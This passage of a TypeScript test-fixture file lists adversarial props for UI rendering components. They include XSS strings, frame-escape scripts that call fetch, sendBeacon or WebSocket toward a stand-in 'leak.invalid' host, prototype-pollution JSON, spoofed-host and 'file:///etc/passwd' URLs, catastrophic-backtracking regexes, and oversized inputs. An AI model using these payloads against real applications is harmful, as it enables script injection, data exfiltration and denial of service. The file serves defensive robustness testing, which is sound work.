    'columns of one name': () => ({ filterable: true, selectable: true, columns: [{ field: 'a', header: 'A' }, { field: 'a', header: 'A' }, { field: 'a', header: '' }], rows: [{ a: 1 }, { a: 2 }] }),
    'names of a prototype': () => own('{"filterable":true,"exportable":true,"columns":[{"field":"__proto__","header":"p"},{"field":"constructor","header":"c"},{"field":"hasOwnProperty","header":"h"},{"field":"a.b.c","header":"d"}],"rows":[{"__proto__":{"polluted":1},"constructor":1},{"a":{"b":{"c":1}}},{"a.b.c":3}]}'),
    'a hundred thousand rows of two hundred columns': () => ({ sortable: true, filterable: true, columns: list(200, (at) => ({ field: `f${at}`, header: `F ${at}` })), rows: list(100_000, (row) => ({ f0: row, f1: 'x', f199: row % 7 })) }),
    'two thousand columns': () => ({ filterable: true, columns: list(2_000, (at) => ({ field: `f${at}`, header: `F ${at}` })), rows: list(50, () => ({ f0: 1 })) }),
    'formats that are none': () => ({ columns: [{ field: 'a', header: 'A', format: 'currency', currency: 'x', locale: '__' }, { field: 'b', header: 'B', format: { style: 'unit', unit: 'x' } }, { field: 'c', header: 'C', format: 'date', width: -5 }, { field: 'd', header: 'D', format: 'percent', width: '1e9px', align: 'x' }], rows: [{ a: 1e308, b: -0, c: 9e15, d: 'x' }, { a: null, b: [], c: {}, d: true }] } as unknown as JsonObject),
    'a cell of a million characters': () => ({ columns: [{ field: 'a', header: 'x'.repeat(10_000) }], rows: [{ a: 'y'.repeat(1_000_000) }, { a: nest(200, 1, (value) => [value]) }] }),
    'a page of nothing': () => ({ columns: [], rows: [{ a: 1 }], pageSize: -5 }),
    'pages without end': () => ({ columns: [{ field: 'a', header: 'A' }], rows: list(5_000, (at) => ({ a: at })), pageSize: 1e9, height: -3 }),
    'rows that are none': () => ({ columns: [{ field: 'a', header: 'A' }, null, 7], rows: [null, 7, [], 'x', { a: { b: 1 } }] } as unknown as JsonObject),
  },
  json: {
    'ten thousand deep': () => ({ data: nest(10_000, 1, (value) => ({ a: value })), expandLevel: 1e9 }),
    'lists ten thousand deep': () => ({ data: nest(10_000, 1, (value) => [value]), expandLevel: 100 }),
    'keys that reorder and hide': () => ({ data: own('{"\\u202Eabc":1,"\\u0000":2,"":3,"__proto__":{"polluted":1},"<img src=x onerror=1>":"</script><script>1</script>","a\\nb":4,"\\ud800":5}'), expandLevel: 5 }),
    'a long text': () => ({ data: { a: 'x'.repeat(3_000_000), ['k'.repeat(100_000)]: 1 } }),
    'a wide list': () => ({ data: list(200_000, Number), expandLevel: 9 }),
    'a wide object': () => ({ data: Object.fromEntries(list(100_000, (at) => [`k${at}`, { a: [at] }])), expandLevel: 9, sortKeys: true }),
    'an address that is none': () => ({ data: { artifact_id: '../../x', url: LEAK, artifact_type: 'json' } }),
  },
  html: {
    'ways out of the frame': () => ({
      html: `<base href="${LEAK}" target=_top><meta http-equiv=refresh content="0;url=${LEAK}"><a id=a href="${LEAK}" target=_top>x</a><form id=f action=${LEAK} target=_top><input name=x></form><iframe src="${LEAK}"></iframe><iframe srcdoc="<script>top.__pwned=1</script>"></iframe><object data=${LEAK}></object><embed src=${LEAK}><link rel=prefetch href=${LEAK}><link rel=dns-prefetch href=//leak.invalid><img src=${LEAK}><video src=${LEAK} autoplay></video>`,
      js: `for (const f of [()=>top.location='${LEAK}',()=>parent.location.replace('${LEAK}'),()=>open('${LEAK}'),()=>a.click(),()=>f.submit(),()=>fetch('${LEAK}'),()=>new WebSocket('wss://leak.invalid'),()=>new EventSource('${LEAK}'),()=>navigator.sendBeacon('${LEAK}'),()=>new Worker('data:text/javascript,1'),()=>location='${LEAK}',()=>alert(1),()=>print(),()=>document.domain='x',()=>parent.document.body.remove(),()=>top.__pwned=1,()=>localStorage.x=1,()=>document.cookie='x=1',()=>navigator.clipboard.writeText('x'),()=>parent.postMessage({type:'pf',height:1e9},'*')]) try{f()}catch(e){}`,
      height: 'auto',
    }),
    'a document that ends early': () => ({ html: `</body></html></iframe></script><!--<script>${RUN}</script>--><p>"'><plaintext>`, css: '</style><script>top.__pwned=1</script>', js: '</script><script>top.__pwned=1</script><!--<script>' }),
    'heights without end': () => ({ html: '<div style="height:1e9px">x</div>', js: 'setInterval(()=>{document.body.style.height=Math.random()*1e7+"px"},5)', height: 'auto' }),
    'a height that is none': () => ({ html: '<p>x', height: '100vh;position:fixed;inset:0' }),
    'messages without end': () => ({ html: '<p>x', js: `for(let i=0;i<2000;i++){parent.postMessage({pf:'height',height:i},'*');parent.parent.postMessage('x','*')}` }),
    'an object of words': () => ({ html: { toString: 'x' }, js: ['alert'] } as unknown as JsonObject),
  },
  video: Object.fromEntries(
    [`javascript:${RUN}`, 'data:video/mp4;base64,AAAA', 'blob:https://x/y', 'file:///etc/passwd', '//leak.invalid/x.mp4', `https://www.youtube.com@leak.invalid/x`, 'https://www.youtube.com\\@leak.invalid', 'https://user:pass@www.youtube.com/a.mp4', 'https://www.youtube.com:444/x', 'HTTPS://WWW.YOUTUBE.COM.leak.invalid/', `${LEAK} 1x, ${LEAK} 2x`, 'https://[::1]/x', 'https://127.1/x', 'https://xn--/', 'about:blank', '/secret', '#x', ' '].map((src) => [
      src,
      () => ({ src, poster: src, autoplay: true, controls: false }),
    ]),
  ),
  image: Object.fromEntries(
    [`javascript:${RUN}`, `data:image/svg+xml,<svg onload='${RUN}'/>`, 'data:image/png;base64,AAAA,x', 'data:text/html;base64,PHNjcmlwdD4=', 'blob:https://x/y', 'file:///etc/passwd', '//leak.invalid/x', '/secret', 'https://www.youtube.com@leak.invalid/x', 'https://user:pass@www.youtube.com/a.png', `${LEAK} 1x, ${LEAK} 2x`, 'https://www.youtube.com\u3002leak.invalid/', 'x:', ' \t'].map((src) => [
      src,
      () => ({ src, alt: IMG, caption: `\u202E${IMG}`, zoomable: true }),
    ]),
  ),
  embed: Object.fromEntries(
    [`javascript:${RUN}`, 'data:text/html,<script>top.__pwned=1</script>', 'blob:https://x/y', 'about:srcdoc', '//www.youtube.com/embed/x', 'https://www.youtube.com@leak.invalid/', 'https://www.youtube.com\\.leak.invalid/', 'https://www.youtube.com%2eleak.invalid/', 'https://leak.invalid/#www.youtube.com', 'https://www.youtube.com.:443/x', 'https://www.youtube.com\t.leak.invalid/', 'https://\u2028www.youtube.com/', 'view-source:https://www.youtube.com/', 'filesystem:https://www.youtube.com/temporary/x', 'https:www.youtube.com', 'https:///www.youtube.com/', 'wss://www.youtube.com/'].map((url) => [
      url,
      () => ({ url, title: IMG, allowFullscreen: true }),
    ]),
  ),
  form: {
    'every type with a default of another': () => ({
      fields: ['text', 'number', 'email', 'password', 'url', 'tel', 'color', 'textarea', 'select', 'multiselect', 'checkbox', 'radio', 'switch', 'date', 'datetime', 'time', 'file', 'range'].flatMap((type, at) =>
        ([{ a: 1 }, [[]], -1e308, '\u202E<b>', true] as JsonValue[]).map((value, n) => ({ name: `f${at}_${n}`, type, label: IMG, placeholder: IMG, helpText: IMG, default: value, options: ['a', 'a', { value: 'b', label: IMG }] })),
      ),
    }),
    'names of a prototype': () => ({ fields: ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'submit', 'action', 'elements', 'nodeName', 'attributes', 'parentNode'].map((name) => ({ name, type: 'text', label: name, required: true, default: 'x' })) }),
    'names that come twice': () => ({ fields: list(6, (at) => ({ name: 'a', type: at % 2 ? 'text' : 'file', label: `L${at}` })) }),
    'a thousand fields': () => ({ fields: list(1_000, (at) => ({ name: `f${at}`, type: 'text', label: `L${at}` })) }),
    'patterns that never end': () => ({ fields: ['(a+)+$', '^(([a-z])+.)+[A-Z]([a-z])+$', '(?:(?:a*)*)*b', '(', '[', '\\', '(?<=a)b', '\\p{x}', `${'(a?)'.repeat(500)}a`].map((pattern, at) => ({ name: `f${at}`, type: 'text', label: 'x', default: `${'a'.repeat(5_000)}!`, validation: { pattern, message: IMG } })) }),
    'limits the wrong way round': () => ({ fields: ['number', 'range', 'text', 'date', 'time', 'datetime', 'multiselect', 'file'].map((type, at) => ({ name: `f${at}`, type, label: 'x', options: ['a'], validation: { min: 10, max: -10, step: 0, minLength: 9, maxLength: -1, minSelections: 5, maxSelections: 1, maxBytes: -1, accept: ['', '*/*', '<b>'] } })) }),
    'steps without end': () => ({ fields: [{ name: 'r', type: 'range', label: 'r', validation: { min: -1e308, max: 1e308, step: 1e-308 } }, { name: 'n', type: 'number', label: 'n', default: 1e308, validation: { step: 5e-324 } }] }),
    'ten thousand options': () => ({ fields: [{ name: 's', type: 'select', label: 's', options: list(10_000, String) }, { name: 'm', type: 'multiselect', label: 'm', options: list(10_000, String) }, { name: 'r', type: 'radio', label: 'r', options: list(10_000, String) }] }),
    'words without end': () => ({ title: 'x'.repeat(50_000), description: 'y'.repeat(200_000), submitLabel: 'z'.repeat(9_000), cancelLabel: IMG, fields: [{ name: 'n'.repeat(9_000), type: 'text', label: 'w'.repeat(50_000) }] }),
    'fields that are none': () => ({ fields: [null, 7, [], {}, { type: '__proto__', name: 'x' }, { name: {}, type: [] }] } as unknown as JsonObject),
  },
  confirm: {
    'HTML in every word': () => ({ title: IMG, message: IMG, details: IMG, confirmLabel: IMG, cancelLabel: IMG, variant: '__proto__' }),
    'labels of the other meaning': () => ({ message: 'x', confirmLabel: '\u202EoN', cancelLabel: '  Y\u0435s, delete  ' }),
    'words without end': () => ({ title: 'x'.repeat(50_000), message: `${'y'.repeat(100_000)}`, details: '> '.repeat(20_000), confirmLabel: 'z'.repeat(9_000), cancelLabel: ' ' }),
    'words that are none': () => ({ title: {}, message: [], details: 7, confirmLabel: null, cancelLabel: {} } as unknown as JsonObject),
  },
  select_option: {
    'two thousand options': () => ({ options: list(2_000, (at) => ({ value: `v${at}`, label: `L${at}`, description: 'd', metadata: { a: at } })), searchable: true, multiple: true }),
    'values that come twice': () => ({ options: list(6, () => ({ value: 'a', label: IMG, description: IMG, icon: LEAK })) }),
    'names of a prototype': () => ({ multiple: true, minSelections: 9, maxSelections: 2, options: [{ value: '__proto__', label: 'p', metadata: own('{"__proto__":"x","constructor":"y"}') }, { value: 'constructor', label: 'c' }] }),
    'limits that cannot be met': () => ({ multiple: true, minSelections: 1e9, maxSelections: -1, options: [{ value: 'a', label: '' }] }),
    'nothing to choose': () => ({ options: [] }),
    'words without end': () => ({ title: 'x'.repeat(20_000), layout: '__proto__', options: [{ value: 'a'.repeat(9_000), label: 'b'.repeat(90_000), description: 'c'.repeat(90_000) }] }),
  },
  report: {
    'two thousand sections': () => ({ title: 'r', sections: list(2_000, (at) => ({ title: `S${at}`, content: `*${at}*` })) }),
    'a hundred sections in each other': () => ({ title: 'r', sections: list(50, (at) => ({ title: `S${at}`, content: 'x', subsections: list(8, (n) => ({ title: `T${n}`, content: '- a\n- b' })) })) }),
    'ids that come twice': () => ({ title: IMG, sections: list(20, () => ({ id: 'root', title: 'attributes', content: '# attributes\n\n[^1]\n\n[^1]: x' })) }),
    'sections in one another': () => ({ title: 'r', sections: [nest(300, { title: 'x', content: 'x' }, (value) => ({ title: 't', content: 'c', subsections: [value] }))] } as JsonObject),
    'reports in reports': () => nest(20, { title: 'x', sections: [{ title: 'x', content: 'y' }] }, (value) => ({ title: 'r', sections: [{ title: 't', components: [{ component: 'report', props: value }] }] })) as JsonObject,
  },
  grid: {
    'two thousand cells': () => ({ columns: 12, items: list(2_000, (at) => ({ component: 'metric', props: { value: at, label: 'x' } })) }),
    'columns without end': () => ({ columns: 1e9, gap: '1e9px;position:fixed', items: [{ component: 'metric', props: { value: 1, label: 'x' }, colSpan: 1e9, rowSpan: -4 }] }),
    'grids in grids': () => nest(30, { items: [] }, (value) => ({ items: [{ component: 'grid', props: value }, { component: 'metric', props: { value: 1, label: 'x' } }] })) as JsonObject,
    'names of a prototype': () => ({ items: [{ component: '__proto__', props: {} }, { component: 'constructor', props: {} }, { component: 'toString' }] }),
  },
  tabs: {
    'two thousand tabs': () => ({ tabs: list(2_000, (at) => ({ id: `t${at}`, label: `L${at}`, content: 'x' })) }),
    'ids that come twice': () => ({ defaultTab: 'nobody', tabs: list(5, () => ({ id: 'root', label: IMG, content: IMG, icon: LEAK })) }),
    'all of them disabled': () => ({ tabs: list(3, (at) => ({ id: `${at}`, label: '', disabled: true, content: 'x' })) }),
    'names of a prototype': () => ({ defaultTab: '__proto__', tabs: [{ id: '__proto__', label: 'p', content: 'x' }, { id: 'constructor', label: 'c', content: 'y' }] }),
    'a long label': () => ({ tabs: list(40, () => ({ label: 'x'.repeat(5_000), content: 'y' })) }),
  },
  accordion: {
    'two thousand entries': () => ({ allowMultiple: true, items: list(2_000, (at) => ({ id: `i${at}`, title: `T${at}`, content: 'x', defaultOpen: true })) }),
    'ids that come twice': () => ({ items: list(5, () => ({ id: 'root', title: IMG, content: IMG })), defaultOpen: ['__proto__', 'root'] }),
    'accordions in accordions': () => nest(12, { items: [] }, (value) => ({ items: [{ title: 't', defaultOpen: true, components: [{ component: 'accordion', props: value }], component: { component: 'accordion', props: value } }] })) as JsonObject,
  },
  callout: {
    'HTML in every word': () => ({ type: '__proto__', title: IMG, content: IMG, icon: LEAK }),
    'words without end': () => ({ type: 'error', title: 'x'.repeat(50_000), content: 'y '.repeat(200_000) }),
  },
  code: {
    'a million lines': () => ({ code: 'x\n'.repeat(1_000_000), language: 'typescript', showLineNumbers: true, highlightLines: list(10_000, Number) }),
    'one line of a million characters': () => ({ code: 'a('.repeat(500_000), language: 'typescript' }),
    'HTML and controls': () => ({ code: `${IMG}\u202E\u2066\u0000`, language: '__proto__', title: IMG, highlightLines: ['1-999999999', -5, '__proto__'] }),
    'marks that never end': () => ({ code: `${'`${'.repeat(2_000)}${'/*'.repeat(5_000)}${'"\\'.repeat(5_000)}`, language: 'typescript' }),
    'a diff without end': () => ({ code: `${'+a\n-b\n'.repeat(20_000)}`, language: 'diff', diff: true }),
  },
  metric: {
    'HTML in every word': () => ({ value: IMG, label: IMG, unit: IMG, icon: LEAK, color: `red;background:url(${LEAK})`, description: IMG, trend: '__proto__' }),
    'figures that are none': () => ({ value: -1e308, label: 'x', change: 1e308, format: 'currency', currency: '?', precision: 1e9, sparkline: [1e308, -1e308, 0] }),
    'a line of a million points': () => ({ value: 1, label: 'x', sparkline: list(1_000_000, (at) => at % 13) }),
    'words without end': () => ({ value: '9'.repeat(100_000), label: 'x'.repeat(100_000), unit: 'y'.repeat(10_000) }),
  },
}

/** All hostile payloads, for every component. */
export const adversarialPayloads: readonly AdversarialPayload[] = Object.entries(groups).flatMap(([component, group]) =>
  Object.entries(group).map(([name, props]) => ({ component, name, props })),
)
